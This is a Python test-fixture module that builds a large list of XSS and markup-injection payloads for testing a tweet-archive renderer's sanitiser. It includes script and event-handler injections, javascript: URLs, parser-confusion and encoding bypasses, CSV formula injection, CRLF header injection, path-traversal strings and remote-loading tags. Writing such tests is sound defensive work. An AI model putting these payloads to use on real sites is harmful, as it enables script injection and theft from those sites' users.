"""Words that want to be markup: one for every way that is known of making a page act, all written for these tests.

Whoever has public lists of such words tries them, too: put them, as .json (a list of texts) or .txt (one a line), into
a folder and name it in $TWEETARCHIVE_PAYLOADS. Then all tests that use `payloads` take those as well.
"""

# ruff: noqa: E501 — what is written here is no code of ours

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from itertools import chain
from pathlib import Path

RUN = "window.__pwned=1"


def payloads() -> list[str]:
    """Ours, and those of the folder in $TWEETARCHIVE_PAYLOADS, each once. NUL and half characters, which XML and UTF-8
    cannot hold, are for other tests.
    """
    found = chain(
        _elements(), _handlers(), _addresses(), _breaking_out(), _misread(), _disguised(), _old(), _clobbering(),
        _markdown(), _shortcodes(), _loading(), _listed(),
    )  # fmt: skip
    return list(dict.fromkeys(each.replace("\x00", "").strip() for each in found))


def _listed() -> Iterator[str]:
    folder = os.environ.get("TWEETARCHIVE_PAYLOADS")
    for path in sorted(Path(folder).iterdir()) if folder else ():
        text = path.read_text(encoding="utf-8")
        yield from json.loads(text) if path.suffix == ".json" else text.splitlines()


def _elements() -> Iterator[str]:
    """Elements that act by being there."""
    yield f"<script>{RUN}</script>"
    yield f"<ScRiPt >alert(1);{RUN}</sCrIpT >"
    yield f"<script\n>{RUN}</script\n>"
    yield f"<script/x>{RUN}</script>"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<<script>{RUN}//<</script>"
    yield f"<script>{RUN}"
    yield f"</script><script>{RUN}</script>"
    yield f"<script type=module>{RUN}</script>"
    yield '<script src="https://elsewhere.example/x.js"></script>'
    yield "<script src=//elsewhere.example/x.js?<b>"
    yield f"<script src='data:text/javascript,{RUN}'></script>"
    yield f"<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe><p>{RUN}</p>"
    yield f"<iframe src='javascript:parent.{RUN}'>"
    yield f"<embed src='javascript:{RUN}'><object data='javascript:{RUN}'></object>"
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><script href='data:text/javascript,{RUN}'/></svg>"
    yield f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><script>{RUN}</script></svg>#x'/>"
    yield f"<svg><a xlink:href='javascript:{RUN}'><text y=20>click</text></a></svg>"
    yield f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text y=20>click</text></a></svg>"
    yield f"<svg><set attributeName=onmouseover to='{RUN}'/></svg>"
    yield f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject></svg>"
    yield f"<math href='javascript:{RUN}'>click</math><math><maction actiontype=statusline xlink:href='javascript:{RUN}'>c"
    yield f"<form action='javascript:{RUN}'><input type=submit></form>"
    yield f"<button formaction='javascript:{RUN}' form=x>x</button><form id=x></form>"
    yield f"<isindex action='javascript:{RUN}' type=image>"
    yield f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>"
    yield "<meta http-equiv=refresh content='0;https://elsewhere.example/'>"
    yield "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    yield "<meta http-equiv=Set-Cookie content='a=b'><meta name=referrer content=unsafe-url>"
    yield "<base href='https://elsewhere.example/'><base target=x>"
    yield f"<template><script>{RUN}</script></template><template shadowrootmode=open><img src=x onerror={RUN}></template>"
    yield f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>"
    yield f"<dialog open><button autofocus onfocus={RUN}>x</button></dialog>"
    yield f"<portal src='javascript:{RUN}'></portal><fencedframe src=//elsewhere.example></fencedframe>"
    yield f"<frameset onload={RUN}><frame src='javascript:{RUN}'></frameset>"
    yield f"<applet code=x.class onerror={RUN}></applet><bgsound src='javascript:{RUN}'><layer src=//elsewhere.example></layer>"
    yield f"<x-made-up onclick={RUN} tabindex=0 autofocus onfocus={RUN}>x</x-made-up>"


def _handlers() -> Iterator[str]:
    """Attributes that act, on elements that call them by themselves or are touched."""
    for element, events in {
        "img src=x": ("onerror", "onloadstart", "ONERROR", "onerror\x0b", "onerror\n", "x/onerror"),
        "video src=x": ("onerror", "onloadstart", "onsuspend"),
        "audio src=x": ("onerror",),
        "svg": ("onload", "onLoad", "onfocusin tabindex=1 autofocus"),
        "body": ("onload", "onpageshow", "onhashchange", "onmessage", "onscroll", "onbeforeprint"),
        "html": ("onmouseover",),
        "details open": ("ontoggle", "onbeforetoggle"),
        "input autofocus": ("onfocus", "onfocusin", "onblur"),
        "select autofocus": ("onfocus",),
        "textarea autofocus": ("onfocus",),
        "a href=# tabindex=0": ("onclick", "onmouseenter", "onauxclick", "oncontextmenu", "onpointerover"),
        "p": (
            "onmouseover",
            "oncopy",
            "onwheel",
            "onpointermove",
            "onbeforexrselect",
            "oncontentvisibilityautostatechange",
        ),
        "b style='animation:x 1s'": ("onanimationstart", "onwebkitanimationstart", "ontransitionend"),
        "marquee": ("onstart", "onfinish", "onbounce"),
        "object data=x": ("onerror", "onload"),
        "iframe src=x": ("onload",),
        "link rel=stylesheet href=x": ("onerror", "onload"),
        "style": ("onload",),
        "source src=x": ("onerror",),
        "track default src=x": ("onerror",),
        "div contenteditable": ("onfocus", "onbeforeinput", "onpaste"),
        "table background=x": ("onload",),
        "blockquote cite=x": ("ondrag", "ondrop"),
    }.items():
        for event in events:
            yield f"<{element} {event}={RUN}>touch</{element.split()[0]}>"
    yield f"<img src=x\tonerror\t=\t'{RUN}'>"
    yield '<img src=x onerror="&#119;indow.__pwned&equals;1">'
    yield f"<img/src='x'onerror='{RUN}'>"
    yield f"<img src=`x` onerror=`{RUN}`>"
    yield f'<img """><img src=x onerror={RUN}>">'
    yield f"<img src=x:x =onerror={RUN}>"
    yield f'<p title="a" title=\'" onmouseover={RUN} "\'>x</p>'
    yield f'<a href=https://elsewhere.example/"onmouseover={RUN}//>x</a>'
    yield f"<a href='https://elsewhere.example/' onclick='{RUN}' ping='https://elsewhere.example/ping' target=_blank>x</a>"


def _addresses() -> Iterator[str]:
    """Addresses that act, bare (for fields that hold one) and in links and pictures."""
    bare = [
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f" \x01\x0ejavascript:{RUN}",
        f"java\nscript:{RUN}",
        f"java\tscript\r\n:{RUN}",
        f"javascript\u2028:{RUN}",
        f"javascript&colon;{RUN}",
        f"javascript&#58;{RUN}",
        f"&#x6a;avascript:{RUN}",
        f"&#0000106avascript:{RUN}",
        f"java&Tab;script&NewLine;:{RUN}",
        f"javascript%3A{RUN}",
        f"javascript://elsewhere.example/%0a{RUN}",
        f"javascript:/*https://elsewhere.example/*/{RUN}",
        f"\u00a0javascript:{RUN}",
        f"\ufeffjavascript:{RUN}",
        f"ｊａｖａｓｃｒｉｐｔ:{RUN}",
        f"vbscript:{RUN}",
        f"livescript:{RUN}",
        f"mocha:{RUN}",
        f"view-source:javascript:{RUN}",
        f"feed:javascript:{RUN}",
        f"jar:javascript:{RUN}!/x",
        f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
        f"DATA:,{RUN}",
        "blob:https://elsewhere.example/1",
        "filesystem:https://elsewhere.example/x",
        "file:///etc/passwd",
        "//elsewhere.example/x.js",
        "\\\\elsewhere.example\\x",
        "/\\elsewhere.example/x",
        "https:elsewhere.example",
        "https:///elsewhere.example",
        "https://\telsewhere.example/x",
        "https://site.example@elsewhere.example/",
        "https://site.example\\@elsewhere.example/",
        f"https://elsewhere.example/\"onmouseover=\"{RUN}",
        f"https://elsewhere.example/'onmouseover='{RUN}",
        f"https://elsewhere.example/><script>{RUN}</script>",
        f"https://elsewhere.example/`onmouseover={RUN}`",
        "https://[half",
        "https://elsewhere.example:99999999/",
        "https://xn--/",
        "tel:+1", "sms:1", "intent:x#Intent;end", "ms-settings:x", "steam://run/1", "chrome://quit", "about:blank",
        "?x=<script>", "#\"><script>", "../../../../etc/passwd", "..\\..\\x", "\u202egpj.exe", "%00%2e%2e%2f",
    ]  # fmt: skip
    yield from bare
    for address in bare[:26]:
        quoted = address.replace('"', "&quot;")
        yield f'<a href="{quoted}">one</a> <img src="{quoted}"> <q cite="{quoted}">two</q>'
    yield f"<a href=javascript:{RUN}>three</a>"
    yield f"<a href='' href='javascript:{RUN}'>four</a><area href='javascript:{RUN}'>"
    yield f"<a\nhref\n=\n'\njavascript:{RUN}'>five</a>"
    yield f"<img src=x dynsrc='javascript:{RUN}' lowsrc='javascript:{RUN}' srcset='javascript:{RUN} 1x'>"
    yield f"<a href='https://site.example' xlink:href='javascript:{RUN}' data-href='javascript:{RUN}'>six</a>"


def _breaking_out() -> Iterator[str]:
    """Ends of what the words may stand in: elements, attributes, comments, scripts, styles, other languages."""
    image = f"<img src=x onerror={RUN}>"
    for end in (
        *('">', "'>", "`>", "-->", "--!>", "--><!--", "]]>", "*/", "</title>", "</textarea>", "</style>", "</script>"),
        *("</a>", "</p></div></article></main></body></html>", "</svg>", "</math>", "</template>", "</noscript>"),
        *("</iframe>", "</xmp>", "</select>", "</table>", "</button>", "</option>", "</object>", "</time>", "</bdi>"),
        *(
            "</head><body>",
            "</blockquote></ol></li></ul>",
            "</details></summary>",
            "<![CDATA[",
            "<?xml ",
            "<!DOCTYPE x [",
            "<!",
        ),
        *(
            "</plaintext>",
            "<plaintext>",
            "<xmp>",
            "<textarea>",
            "<title>",
            "<!--",
            "<!-->",
            "<!--->",
            '\\">',
            "%22%3E",
            "&quot;&gt;",
        ),
    ):
        yield end + image
    yield f'" onmouseover={RUN} x="'
    yield f"' onmouseover={RUN} x='"
    yield f'" autofocus tabindex=0 onfocus="{RUN}" x="'
    yield f"x onmouseover={RUN} autofocus onfocus={RUN}"
    yield f'";{RUN};//'
    yield f"';{RUN}//\\';{RUN}//\";{RUN}//-->\">'><script>{RUN}</script>"
    yield f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e"
    yield f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e"
    yield f"${{{RUN}}} {{{{{RUN}}}}} <%= {RUN} %> #{{{RUN}}} [[{RUN}]] {{% print 7*7 %}} ${{{{7*7}}}}"
    yield f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e"
    yield f"BEGIN:VEVENT\r\nSUMMARY:x\r\nURL:javascript:{RUN}\r\nEND:VEVENT"
    yield f"\r\nContent-Type: text/html\r\n\r\n<script>{RUN}</script>"
    yield f"=cmd|' /C calc'!A0 <script>{RUN}</script>"


def _misread() -> Iterator[str]:
    """What one parser takes for words and the next for elements."""
    image = f"<img src=x onerror={RUN}>"
    yield f'<svg></p><style><a id="</style>{image}">'
    yield f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{image}">'
    yield f"<form><math><mtext></form><form><mglyph><style></math>{image}"
    yield f"<math><mtext><mglyph><mi><style><![CDATA[</style>{image}]]>"
    yield f"<svg><title><style><img src='</style>{image}'>"
    yield f"<svg><desc><noembed><img title='</noembed>{image}'>"
    yield f"<svg><annotation-xml><foreignobject><style><!--</style><p id='--><!--><img src=x onerror={RUN}>'>"
    yield f"<noembed><p title='</noembed>{image}'>"
    yield f"<noframes><p title='</noframes>{image}'>"
    yield f"<xmp><p title='</xmp>{image}'>"
    yield f"<style><p title='</style>{image}'>"
    yield f"<textarea><p title='</textarea>{image}'>"
    yield f"<title><p title='</title>{image}'>"
    yield f"<select><style></select>{image}</style>"
    yield f"<table><tr><td><select><math><style></table>{image}"
    yield f"<table><a href='https://site.example/'>{image}<td></table>"
    yield f"<b><p><a><b><p>{image}</a></b><svg><p></svg>{image}"
    yield f"<!-- --!>{image} -->"
    yield f"<!-- <a title='-->{image}'>"
    yield f"<!><img src='><img src=x onerror={RUN}//'>"
    yield f"<?x <img src='?>{image}'>"
    yield f"<![CDATA[<img src=']]>{image}'>"
    yield f"<% <img src='%>{image}'>"
    yield f"</ <img src='x'>{image}>"
    yield f"</p title='>{image}'>"
    yield f"<p title='&lt;/p&gt;{image}'>x</p><p title=\"&quot;&gt;{image}\">y</p>"
    yield f"&lt;img src=x onerror={RUN}&gt; &#60;img src=x onerror={RUN}&#62; &LT;img src=x onerror={RUN}&GT;"
    yield f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;"
    yield f"%3Cscript%3E{RUN}%3C/script%3E %253Cscript%253E{RUN}"
    yield f"＜script＞{RUN}＜/script＞ ‹script›{RUN} \u02c2script\u02c3 \u226escript"
    yield f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-"
    yield f"\x1b$B<script>\x1b(B{RUN}</script>"
    yield f"\u00bcscript\u00be{RUN}\u00bc/script\u00be"
    yield f"\u0130mg <\u0131mg src=x onerror={RUN}> <\u017fcript>{RUN}</\u017fcript> <\u212abd onclick={RUN}>"
    yield f"<img\u00a0src=x\u00a0onerror={RUN}> <img\u3000src=x onerror={RUN}> <\u200bscript>{RUN}</script>"
    yield f"<im\ng src=x onerror={RUN}> < script>{RUN}</script> <\tscript>{RUN}</script>"
    yield f"<a{'a' * 3000} onclick={RUN}>" + "<b>" * 600 + image
    yield f"<pre><pre class='language-html\"><script>{RUN}</script>'>&lt;script&gt;{RUN}&lt;/script&gt;</pre>"
    yield f"<pre class=\"brush: html\">&lt;img src=x onerror={RUN}&gt;</pre><code class='x onclick={RUN}'>{image}</code>"


def _disguised() -> Iterator[str]:
    """Links that say one place and lead to another, words that hide or turn around their neighbours."""
    yield '<a href="https://elsewhere.example/">https://site.example/login</a>'
    yield '<a href="https://elsewhere.example/">site.example</a>'
    yield '<a href="https://site.example@elsewhere.example/">www.site.example</a>'
    yield "safe\u202egnp.exe \u2066x\u2067y\u2068z\u2069 \u202ax\u202by\u202dz"
    yield "zero\u200bwidth\u200cand\u200djoined\u2060and\ufeffmarked\u00ad\u180e"
    yield "tagged" + "".join(chr(0xE0000 + ord(each)) for each in "hidden words") + "\U000e007f\U000e0001"
    yield "lines\u2028and\u2029paragraphs\x85next\x0bv\x0cf"
    yield "bell\x07 escape\x1b[31mred\x1b]0;title\x07 \x9b31m delete\x7f back\x08\x08\x08"
    yield "filler\u3164\u115f\u1160\uffa0 blank\u2800 annotated\ufff9x\ufffay\ufffb not\ufffe\uffff"
    yield "z" + "\u0300\u0301\u0489" * 40 + "algo"


def _old() -> Iterator[str]:
    """What only browsers of long ago obeyed."""
    yield f"<p style='width:expression({RUN})'>x</p>"
    yield f"<p style='background:url(javascript:{RUN})'>x</p>"
    yield "<p style='position:fixed;top:0;left:0;width:9999px;height:9999px;background:url(https://elsewhere.example/x)'>x</p>"
    yield "<p style=\"-moz-binding:url('//elsewhere.example/x.xml#x')\">x</p><p style='behavior:url(#default#time2)'>x</p>"
    yield "<style>@import 'https://elsewhere.example/x.css'; body{display:none}</style>"
    yield "<style>@\\69mport'//elsewhere.example/x.css';a[href^='x']{background:url(//elsewhere.example/y)}</style>"
    yield f"<div datasrc=#x datafld=y dataformatas=html></div><xml id=x><![CDATA[<img src=x onerror={RUN}>]]></xml>"
    yield f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->"
    yield f"<comment><img src='</comment><img src=x onerror={RUN}>'>"
    yield f"<br size='&{{{RUN}}}'><table background='javascript:{RUN}'><td background='javascript:{RUN}'></table>"
    yield f"<img src='javascript:{RUN}'><input type=image src='javascript:{RUN}'>"
    yield f"<event-source src='//elsewhere.example/x'><ruby oncopy={RUN}><rt>x</rt></ruby>"
    yield f"<t:set attributeName=innerHTML to='<img src=x onerror={RUN}>'><?import namespace=t implementation='#default#time2'>"
    yield "<html xmlns:xss><?import namespace=xss implementation='//elsewhere.example/x.htc'><xss:xss>x</xss:xss></html>"


def _clobbering() -> Iterator[str]:
    """Names that would stand in the way of the page's own."""
    yield "<a id=main href='#'>x</a><p id=main>x</p><div name=main>x</div>"
    yield "<form id=body><input name=attributes><input id=children></form>"
    yield "<img name=cookie><img id=location name=location><a id=self name=top>x</a>"
    yield "<a id=__pwned></a><a id=__pwned name=toString href='x:1'></a>"
    yield "<p class='skip unseen on-home top foot' id=top lang=x dir=rtl hidden inert popover slot=x is=x part=x>x</p>"
    yield "<p aria-label=x role=alert aria-hidden=true tabindex=1 accesskey=s contenteditable draggable=true>x</p>"
    yield "<div itemscope itemtype=x data-x=y nonce=z integrity=x crossorigin referrerpolicy=unsafe-url>x</div>"


def _markdown() -> Iterator[str]:
    for address in (
        f"javascript:{RUN}",
        f"java&#10;script:{RUN}",
        f"\x01javascript:{RUN}",
        "data:text/html,x",
        f"<javascript:{RUN}>",
    ):
        yield f"[one]({address}) ![two]({address}) <{address}>"
        yield f'[three][x]\n\n[x]: {address} "title"'
    yield f'[four](https://elsewhere.example/"onmouseover={RUN}") ![five](https://elsewhere.example/x.png"onerror={RUN}")'
    yield f'![six"onerror="{RUN}](x) [seven](x ""onclick={RUN}")'
    yield f'```html"><script>{RUN}</script>\n<script>{RUN}</script>\n```'
    yield f"    <script>{RUN}</script>\n\n`<script>{RUN}</script>` [^x]\n\n[^x]: <img src=x onerror={RUN}>"
    yield f"| a | b |\n|---|---|\n| <script>{RUN}</script> | [x](javascript:{RUN}) |"
    yield f"# <img src=x onerror={RUN}> {{#main onclick={RUN}}}"
    yield f"*[<img src=x onerror={RUN}>]: x\n\n<div markdown=1>[x](javascript:{RUN})</div>"
    yield "\x02klzzwxh:0000\x03 wzxhzdk:0 \x02amp\x03lt;script>"
    yield f"\\::thread <script>{RUN}</script>"


def _shortcodes() -> Iterator[str]:
    yield f"[caption caption='<img src=x onerror={RUN}>']<img src=x onerror={RUN}>[/caption]"
    yield f'[embed]javascript:{RUN}[/embed] [youtube https://elsewhere.example/"onclick="{RUN}]'
    yield f"[embed]https://elsewhere.example/'\"><script>{RUN}</script>[/embed]"
    yield f"[sourcecode language='html\"><script>{RUN}</script>']<script>{RUN}</script>[/sourcecode]"
    yield f"[gallery ids='1,<script>{RUN}</script>'] [html]<script>{RUN}</script>[/html]"
    yield f'<!-- wp:html --><script>{RUN}</script><!-- /wp:html --><!-- wp:x {{"a":"--><img src=x onerror={RUN}>"}} -->'
    yield f"<!--more--><img src=x onerror={RUN}><!--nextpage--><?php {RUN} ?>"


def _loading() -> Iterator[str]:
    """What would ask another place for something, and so tell it who reads."""
    yield "<img src='https://elsewhere.example/seen.gif' width=1 height=1><img srcset='https://elsewhere.example/seen.png 1x'>"
    yield "<picture><source srcset='//elsewhere.example/x.webp'><img src='//elsewhere.example/x.png' alt='a picture'></picture>"
    yield "<video src='//elsewhere.example/x.mp4' poster='//elsewhere.example/x.png' autoplay></video>"
    yield "<audio src='//elsewhere.example/x.mp3' autoplay></audio><track src='//elsewhere.example/x.vtt'>"
    yield "<link rel=stylesheet href='//elsewhere.example/x.css'><link rel=preload as=script href='//elsewhere.example/x.js'>"
    yield "<link rel=dns-prefetch href='//elsewhere.example'><link rel=preconnect href='//elsewhere.example'>"
    yield "<link rel=prefetch href='//elsewhere.example/x'><link rel=prerender href='//elsewhere.example/x'>"
    yield "<link rel=import href='//elsewhere.example/x'><link rel=manifest href='//elsewhere.example/x'><link rel=icon href='//elsewhere.example/x'>"
    yield "<iframe src='https://elsewhere.example/'></iframe><object data='//elsewhere.example/x.swf'></object><embed src='//elsewhere.example/x'>"
    yield "<body background='//elsewhere.example/x.png'><table background='//elsewhere.example/x.png'></table>"
    yield "<svg><image href='//elsewhere.example/x.png'/><use href='//elsewhere.example/x.svg#x'/><feImage href='//elsewhere.example/x'/></svg>"
    yield "<input type=image src='//elsewhere.example/x.png'><a ping='//elsewhere.example/x' href='https://elsewhere.example/'>x</a>"
    yield "<html manifest='//elsewhere.example/x'><head profile='//elsewhere.example/x'><del cite='//elsewhere.example/x'>x</del>"
    yield '<script type=speculationrules>{"prerender":[{"source":"list","urls":["https://elsewhere.example/x"]}]}</script>'
    yield "![seen](https://elsewhere.example/seen.png) <p style=\"content:url('https://elsewhere.example/x')\">x</p>"
